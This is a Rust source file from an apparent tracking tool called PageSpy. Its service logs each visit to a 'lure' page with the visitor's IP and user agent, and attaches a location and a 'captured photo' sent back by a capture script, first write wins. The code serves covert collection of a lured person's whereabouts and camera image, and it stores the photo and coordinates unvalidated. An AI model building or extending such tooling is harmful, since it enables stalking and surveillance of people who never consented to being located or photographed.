//! View ledger service
//!
//! One row per page load. `location` and `photo` are late-bound and
//! write-once: the first successful callback for a field freezes it, any
//! later attempt is a silent no-op. The freeze is enforced with a
//! conditional UPDATE (`... WHERE <field> IS NULL`), so concurrent
//! duplicate callbacks cannot double-write.

use std::sync::Arc;

use tracing::debug;

use crate::errors::{PageSpyError, Result};
use crate::storage::{LureView, SeaOrmStorage};
use crate::utils::ident;

pub struct ViewService {
    storage: Arc<SeaOrmStorage>,
}

impl ViewService {
    pub fn new(storage: Arc<SeaOrmStorage>) -> Self {
        Self { storage }
    }

    /// Record one page load. Returns the fresh view id, which doubles as
    /// the correlation id handed to the capture script.
    pub async fn record_view(&self, lure_id: &str, ip: &str, user_agent: &str) -> Result<String> {
        let view = LureView {
            id: ident::new_id(),
            lure_id: Some(lure_id.to_string()),
            ip: ip.to_string(),
            user_agent: user_agent.to_string(),
            location: None,
            photo: None,
        };

        self.storage.insert_view(&view).await?;
        debug!("Recorded view {} for lure {}", view.id, lure_id);
        Ok(view.id)
    }

    pub async fn get_view(&self, view_id: &str) -> Result<Option<LureView>> {
        self.storage.get_view(view_id).await
    }

    /// Attach a location fix to a view, first write wins.
    ///
    /// The coordinates arrive and are stored as strings: downstream
    /// consumers (map links) URL-encode the stored value instead of
    /// re-parsing floats.
    pub async fn attach_location(
        &self,
        view_id: &str,
        latitude: &str,
        longitude: &str,
    ) -> Result<()> {
        let view = self
            .storage
            .get_view(view_id)
            .await?
            .ok_or_else(|| PageSpyError::not_found(format!("View not found: {}", view_id)))?;

        if view.location.is_some() {
            debug!("View {} already has a location, ignoring callback", view_id);
            return Ok(());
        }

        let location = format!("{}, {}", latitude, longitude);
        let changed = self.storage.set_view_location(view_id, &location).await?;
        if changed == 0 {
            // Lost a race against a concurrent callback; the field is
            // frozen either way.
            debug!("View {} location was set concurrently", view_id);
        }
        Ok(())
    }

    /// Attach a captured photo to a view, first write wins.
    ///
    /// The payload is opaque self-describing image data, stored as-is with
    /// no format validation and no size cap.
    pub async fn attach_photo(&self, view_id: &str, photo: &str) -> Result<()> {
        let view = self
            .storage
            .get_view(view_id)
            .await?
            .ok_or_else(|| PageSpyError::not_found(format!("View not found: {}", view_id)))?;

        if view.photo.is_some() {
            debug!("View {} already has a photo, ignoring callback", view_id);
            return Ok(());
        }

        let changed = self.storage.set_view_photo(view_id, photo).await?;
        if changed == 0 {
            debug!("View {} photo was set concurrently", view_id);
        }
        Ok(())
    }

    /// Views of a lure, newest first.
    pub async fn list_by_lure(&self, lure_id: &str) -> Result<Vec<LureView>> {
        self.storage.list_views_by_lure(lure_id).await
    }
}
